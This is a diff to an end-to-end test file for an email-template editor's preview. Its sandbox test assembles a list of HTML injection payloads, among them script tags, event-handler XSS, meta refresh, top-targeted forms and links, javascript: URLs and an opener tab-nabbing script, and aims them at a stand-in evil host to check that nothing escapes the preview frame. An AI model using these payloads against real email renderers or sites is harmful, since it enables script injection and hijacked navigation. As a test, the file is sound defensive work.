@@ -1,10 +1,12 @@
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
 import { openScriptedSmtp, type ScriptedSmtp } from '@latchkey/server/testing'
 import type { Page } from 'playwright-core'
 import { afterEach, expect, test } from 'vitest'
 import { findAccessibilityProblemsInBothSchemes } from './axe.ts'
 import { heading, openOwnedProject } from './owned-project.ts'
 
-const servers: ScriptedSmtp[] = []
+const servers: { close(): void }[] = []
 afterEach(() => {
   for (const server of servers.splice(0)) server.close()
 })
@@ -31,8 +33,10 @@ export function EmailTemplate({ variables }) {
 EmailTemplate.PreviewVariables = { passwordResetLink: 'https://example.com' }
 `
 
-/** Without the one that loads behind it, which takes its place once it is there. */
-const preview = (page: Page) => page.frameLocator('iframe[title="Preview of the email"]:not([aria-hidden])')
+/** The email in the frame of a page of its own; the first is the one that is shown. */
+const emailIn = (page: Page, title: string) =>
+  page.frameLocator(`iframe[title="${title}"]`).frameLocator(`iframe[title="${title}"]:first-child`)
+const preview = (page: Page) => emailIn(page, 'Preview of the email')
 
 async function replaceSource(page: Page, source: string): Promise<void> {
   await page.getByRole('textbox', { name: 'Source of the template' }).click()
@@ -100,7 +104,7 @@ test('an email server is tried and saved, a template is edited, and the next ema
   expect(await findAccessibilityProblemsInBothSchemes(page)).toEqual([])
   isRefusing = false
   await failed.getByRole('link').click()
-  await page.frameLocator('iframe[title="The email"]').getByText('Choose another password').waitFor()
+  await emailIn(page, 'The email').getByText('Choose another password').waitFor()
   expect(await findAccessibilityProblemsInBothSchemes(page)).toEqual([])
   await page.getByRole('button', { name: 'Send again' }).click()
   await expect.poll(() => working.emails.length).toBe(3)
@@ -153,38 +157,64 @@ test('a draft is scheduled for all users, cancelled before it is sent, and sent 
   await page.getByRole('row', { name: 'Spring' }).getByText('Sent', { exact: true }).waitFor()
 })
 
+test('the preview shows an email with its styles, in the chosen colors', async () => {
+  const { page, open } = await openOwnedProject()
+  await open(`/emails/templates/${resetTemplate}`)
+  const problems: string[] = []
+  page.on('console', (message) => message.type() === 'error' && problems.push(message.text()))
+  // A scheme that the test asks for would also be that of the email, whatever its frame says.
+  await page.emulateMedia({ colorScheme: null })
+  await page.reload()
+  const button = preview(page).getByRole('link', { name: 'Choose a new password' })
+  const look = () =>
+    button.evaluate((link) => [getComputedStyle(link).paddingLeft, matchMedia('(prefers-color-scheme: dark)').matches])
+  await expect.poll(look).toEqual(['20px', false])
+  await page.getByRole('button', { name: 'Dark', exact: true }).click()
+  await expect.poll(look).toEqual(['20px', true])
+  expect(problems).toEqual([])
+})
+
+/** A server of its own, because what a shut-off frame loads does not pass by the test. */
+async function openEvilSite() {
+  const requests = new Set<string>()
+  const server = createServer((request, response) => {
+    requests.add(`${request.headers['sec-fetch-dest']} ${request.url}`)
+    response.setHeader('content-type', 'text/html')
+    // What a tab can do to the page that has opened it.
+    response.end(
+      "<link rel=icon href='data:,'>Evil<script>for (const w of [opener?.top, opener]) try { w.location = '/tab' } catch {}</script>",
+    )
+  })
+  servers.push(server)
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, requests }
+}
+
 test('nothing gets out of the preview of an email: no script, form, message, refresh, frame or link to the top', async () => {
+  const evil = await openEvilSite()
   const { page, open } = await openOwnedProject()
   const context = page.context()
-  const requests: string[] = []
-  await context.route('https://evil.example/**', (route) => {
-    requests.push(`${route.request().resourceType()} ${new URL(route.request().url()).pathname}`)
-    // What a tab can do to the page that has opened it.
-    const script =
-      "<script>for (const w of [opener?.top, opener]) try { w.location = 'https://evil.example/tab' } catch {}"
-    return route.fulfill({ contentType: 'text/html', body: `Evil${script}</script>` })
-  })
   // Between the windows of the page, and not of the test.
   await page.addInitScript(() => {
     const received: unknown[] = []
     Object.assign(globalThis, { received })
     if (top === window) addEventListener('message', ({ data }) => received.push(data))
   })
-  const report = "parent.postMessage('out','*');top.location='https://evil.example/script'"
+  const report = `parent.postMessage('out','*');top.location='${evil.url}/script'`
   const attacks = `
-    <script>${report}</script><script src="https://evil.example/src"></script>
-    <svg onload="${report}"></svg><img src="https://evil.example/image" onerror="${report}">
-    <iframe srcdoc="<script>parent.${report}</script>"></iframe><iframe src="https://evil.example/frame"></iframe>
-    <object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
-    <base href="https://evil.example/base/" target="_top">
-    <meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
-    <link rel="stylesheet" href="https://evil.example/style"><style>@import 'https://evil.example/import';</style>
-    <form action="https://evil.example/form" target="_top"><input autofocus onfocus="${report}"><button>Submit</button></form>
-    <a href="https://evil.example/top" target="_top">To the top</a>
-    <a href="https://evil.example/parent" target="_parent">To the parent</a>
-    <a href="https://evil.example/self" target="_self">In place</a>
+    <script>${report}</script><script src="${evil.url}/src"></script>
+    <svg onload="${report}"></svg><img src="${evil.url}/image" onerror="${report}">
+    <iframe srcdoc="<script>parent.${report}</script>"></iframe><iframe src="${evil.url}/frame"></iframe>
+    <object data="${evil.url}/object"></object><embed src="${evil.url}/embed">
+    <base href="${evil.url}/base/" target="_top">
+    <meta http-equiv="refresh" content="0;url=${evil.url}/refresh">
+    <link rel="stylesheet" href="${evil.url}/style"><style>@import '${evil.url}/import';</style>
+    <form action="${evil.url}/form" target="_top"><input autofocus onfocus="${report}"><button>Submit</button></form>
+    <a href="${evil.url}/top" target="_top">To the top</a>
+    <a href="${evil.url}/parent" target="_parent">To the parent</a>
+    <a href="${evil.url}/self" target="_self">In place</a>
     <a href="javascript:${report}" target="_self">By script</a>
-    <a href="https://evil.example/opened" target="_blank" rel="opener">In a tab</a>
+    <a href="${evil.url}/opened" target="_blank" rel="opener">In a tab</a>
     </textarea></form><p>All attacks are here</p>`
   const source = toSource('Attack').replace(
     /<a href.*<\/a>/,
@@ -206,6 +236,6 @@ test('nothing gets out of the preview of an email: no script, form, message, ref
   expect(page.url()).toBe(address)
   expect(await page.evaluate(() => (globalThis as unknown as { received: unknown[] }).received)).toEqual([])
   // Emails show images of any host, and nothing else.
-  expect(requests.toSorted()).toEqual(['document /opened', 'image /image'])
+  expect([...evil.requests].sort()).toEqual(['document /opened', 'image /image'])
   expect(context.pages()).toHaveLength(2)
 })
